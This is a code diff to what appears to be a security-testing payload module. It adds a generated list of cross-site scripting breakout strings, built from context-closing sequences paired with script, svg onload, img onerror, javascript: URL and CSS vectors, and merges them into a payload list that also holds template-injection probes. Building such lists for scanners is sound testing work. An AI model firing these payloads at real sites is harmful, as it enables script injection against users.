@@ -61,6 +61,24 @@ _BREAKOUTS = [
         ('"', "'", "`", "&quot;"), (" ", "/", "\n"), ("onfocus", "onmouseover", "onerror")
     )
 ]
+#: Where an attribute's value, a URL, CSS or a script's string would be left.
+_CONTEXTS = [
+    f"{end}{opener}{_CALL}{close}"
+    for end, (opener, close) in itertools.product(
+        ('">', "'>", "-->", "]]>", "</style>", "</script>", "*/", "');", '");', "\\u0022>"),
+        (
+            ("<script>", "</script>"),
+            ("<svg/onload=", ">"),
+            ("<img/src/onerror=", ">"),
+            ("<a/href=javascript:", ">x</a>"),
+            ("<details/open/ontoggle=", ">"),
+            ("<iframe/src=javascript:", ">"),
+            ("<input/autofocus/onfocus=", ">"),
+            ("<style>*{background:url(javascript:", ")}</style>"),
+            ("<set attributeName=onmouseover to=", ">"),
+        ),
+    )
+]
 _TEMPLATES = [
     "{{7*7}}",
     "{{config}}",
@@ -108,5 +126,5 @@ _SCHEMES = [
 ]
 
 PAYLOADS: list[str] = list(
-    dict.fromkeys([*_ELEMENTS, *_HANDLERS, *_BREAKOUTS, *_TEMPLATES, *_ENCODINGS, *_SCHEMES])
+    dict.fromkeys([*_ELEMENTS, *_HANDLERS, *_BREAKOUTS, *_CONTEXTS, *_TEMPLATES, *_ENCODINGS, *_SCHEMES])
 )
